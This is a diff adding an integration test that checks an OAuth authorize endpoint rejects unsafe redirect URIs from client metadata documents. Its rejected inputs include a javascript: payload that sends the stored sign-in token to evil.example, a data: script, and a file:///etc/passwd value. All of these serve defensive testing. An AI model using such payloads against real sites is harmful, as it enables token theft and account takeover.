@@ -8,8 +8,12 @@ from collections.abc import Iterator
 import httpx
 import pytest
 
+from chatbot.oauth.clients import check_redirect_uri
+from chatbot.settings import ChatSettings
 from controlplane.settings import Settings
+from tests.live import free_port, serve
 from tests.mcp_harness import McpStack, served_chat
+from tests.mcp_oauth import Authorization
 
 pytestmark = pytest.mark.integration
 
@@ -45,3 +49,32 @@ def test_one_user_cannot_hold_every_session(stack: McpStack) -> None:
         "mcp-session-id": opened[0].headers["mcp-session-id"]})  # fmt: skip
     assert ended.status_code == 200
     assert _open(stack, alice).status_code == 200
+
+
+def test_a_client_metadata_document_cannot_name_a_script_as_its_redirect_uri(
+    chat_settings: ChatSettings, admin_api: httpx.Client
+) -> None:
+    # The consent page sends the browser to the answer's redirect (location.href = ...): a
+    # document naming javascript: or data: got the chat origin to run the client's script
+    # (with the sign-in token in reach) where only CSP stood in the way.
+    from tests.agent.test_mcp_oauth import _metadata_document, _serve_chat
+
+    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
+    port = free_port()
+    client_id = f"http://127.0.0.1:{port}/client.json"
+    for bad in ("javascript:fetch('//evil.example/'+localStorage.getItem('aipress.token'))//",
+                "data:text/html,<script>alert(1)</script>", "http://evil.example/callback",
+                "https://app.example/cb#frag", "file:///etc/passwd"):  # fmt: skip
+        doc = {"client_id": client_id, "client_name": "Desk Agent", "redirect_uris": [bad]}
+        with serve(_metadata_document(doc), port):
+            for chat in _serve_chat(chat_settings, mcp_allow_loopback_client_metadata=True):
+                with chat.http() as http:
+                    run = Authorization.fresh()
+                    started = http.get("/oauth/authorize", params=run.params(
+                        chat.resource, "sites:read", client_id, bad))  # fmt: skip
+                    assert started.status_code == 400, (bad, started.headers)
+                    assert "redirect" in started.json()["detail"], started.text
+    # What a native or web client registers still works.
+    for good in ("https://app.example/cb", "http://127.0.0.1:9/cb", "http://localhost/cb",
+                 "http://[::1]:8/cb", "com.example.desk:/callback"):  # fmt: skip
+        assert check_redirect_uri(good) is None, good
